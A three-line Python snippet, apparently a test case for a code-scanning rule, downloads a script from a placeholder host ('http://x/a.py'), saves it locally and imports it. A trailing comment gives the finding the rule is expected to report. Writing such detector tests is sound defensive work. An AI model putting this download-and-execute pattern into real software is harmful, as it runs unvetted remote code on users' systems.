import urllib.request as r
r.urlretrieve('http://x/a.py', 'a.py')
import a
# expect 3 any.written-import
